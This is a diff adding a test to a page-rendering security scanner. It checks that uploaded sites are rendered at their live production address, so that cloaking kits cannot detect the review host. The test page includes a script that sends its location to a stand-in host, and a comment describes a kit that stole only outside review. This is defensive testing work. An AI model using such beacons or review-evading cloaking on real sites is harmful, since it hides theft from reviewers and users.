@@ -532,3 +532,33 @@ async function bufferOf(t: TestApp, sha256: string): Promise<Buffer> {
   for await (const c of await t.ctx.store.read(sha256)) chunks.push(c as Buffer);
   return Buffer.concat(chunks);
 }
+
+describe('where a render opens the page', () => {
+  it("opens it at the project's live address, as the install serves it", async () => {
+    // Production's layout: each site at its own host under SITES_ORIGIN; the page can't tell the
+    // render by where it runs (a kit that stole only away from a review host had been rated low).
+    const t = await createTestApp({
+      ...render({ loadTimeoutMs: 5_000 }),
+      sitesOrigin: 'https://sites.example.cn',
+      sitesSubdomains: true,
+    });
+    try {
+      const owner = await t.createUser();
+      const site = await upload(
+        t,
+        owner.token,
+        html(
+          '<h1>地址</h1>',
+          "<script>fetch('https://where.example/w?' + encodeURIComponent(location.href + '|' + isSecureContext));</script>",
+        ),
+      );
+      await t.ctx.services.render.idle();
+      const report = await reportOf(t, site.deploymentId);
+      expect(report.runtime?.external_requests.map((r) => decodeURIComponent(r.url))).toContain(
+        `https://where.example/w?https://p${site.id}.sites.example.cn/|true`,
+      );
+    } finally {
+      await t.close();
+    }
+  });
+});
